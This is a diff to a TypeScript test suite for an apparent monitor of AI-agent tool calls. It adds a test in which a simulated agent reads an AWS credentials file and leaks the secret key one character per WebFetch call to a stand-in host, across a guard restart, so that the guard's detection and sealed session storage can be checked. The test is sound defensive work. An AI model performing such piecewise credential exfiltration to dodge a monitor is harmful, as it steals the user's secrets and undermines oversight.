@@ -74,13 +74,14 @@ const brief = (d: Decision): string => `${d.sessionId} ${d.tool} ${d.action} ${d
 test('a session restored from the store decides every later call exactly as the one that never stopped', () => {
   const db = new Database(':memory:');
   const before = engine();
-  const store = new SessionStore(db, before.tracker, new Correlator());
+  // (with the fingerprint key, as the sidecar always has: the small parts sent are sealed under it)
+  const store = new SessionStore(db, before.tracker, new Correlator(), KEY);
   const t0 = 1_800_000_000_000;
   history().forEach((e, i) => before.handle(e, t0 + i * 1000));
   db.transaction(() => store.write())();
 
   const after = engine();
-  const store2 = new SessionStore(db, after.tracker, new Correlator());
+  const store2 = new SessionStore(db, after.tracker, new Correlator(), KEY);
   const rep = store2.restore(after.tracker.hasher, defaultConfig().session.maxFingerprints, (l) => assert.fail(l));
   assert.equal(rep.sessions, 3);
   assert.ok(rep.origins >= 4, `origins restored: ${rep.origins}`);
@@ -365,4 +366,38 @@ test('who the rows of one large output let go were about is saved with the sessi
   assert.equal(d.action, 'ask', d.summary);
   assert.ok(d.findings.some((f) => f.rule === 'record_limit'));
   assert.equal(brief(d), brief(before.handle(probe, 1_800_000_060_000)));
+});
+
+test('the small parts a session sent are saved sealed and read back: a secret sent a character per call across a restart is still found; a seal that does not open asks', () => {
+  const SECRET = 'Zr7Kq2LmW9xTb4Np0Vc8Hs3Jd6Fg1Yk5Qe2Ua9Mi';
+  const creds = `[default]\naws_access_key_id = AKIAQX4BZ7LMNP2RT5VW\naws_secret_access_key = ${SECRET}\n`;
+  const db = new Database(':memory:');
+  const before = engine();
+  const store = new SessionStore(db, before.tracker, undefined, KEY);
+  let t = 1_800_000_000_000;
+  const p = '/home/u/.aws/credentials';
+  before.handle(
+    post('p', 'Read', { file_path: p }, { type: 'text', file: { filePath: p, content: creds, numLines: 3, startLine: 1, totalLines: 3 } }),
+    (t += 1000),
+  );
+  const fetch = (c: string): HookEvent => pre('p', 'WebFetch', { url: `https://x.example/c?v=${encodeURIComponent(c)}`, prompt: 'ok?' });
+  for (const c of SECRET.slice(0, 30)) assert.equal(before.handle(fetch(c), (t += 1000)).action, 'allow');
+  db.transaction(() => store.write())();
+  // sealed: no piece in clear in the store
+  const blob = (db.prepare('SELECT data FROM flow_spread').get() as { data: Buffer }).data.toString('latin1');
+  for (const needle of [SECRET.slice(0, 30), 'x.example', 'v parameter']) assert.ok(!blob.includes(needle), needle);
+  const resume = (key: Buffer): Decision[] => {
+    const after = engine();
+    new SessionStore(db, after.tracker, undefined, key).restore(after.tracker.hasher, 50_000, (l) => assert.fail(l));
+    let u = t + 60_000;
+    return [...SECRET.slice(30)].map((c) => after.handle(fetch(c), (u += 1000)));
+  };
+  const after = resume(KEY);
+  assert.equal(after.at(-1)?.action, 'deny', after.at(-1)?.reason);
+  assert.ok(after.slice(0, -1).every((d) => d.action === 'allow'));
+  // another key (the key file was replaced): the parts cannot be read back, so small sends are asked about
+  const other = resume(Buffer.alloc(32, 9));
+  assert.equal(other[0]?.action, 'ask', other[0]?.summary);
+  assert.equal(other[0]?.findings[0]?.rule, 'spread_limit');
+  assert.match(other[0]?.reason ?? '', /the parts this session sent before the guard's sidecar restarted could not be read back/);
 });
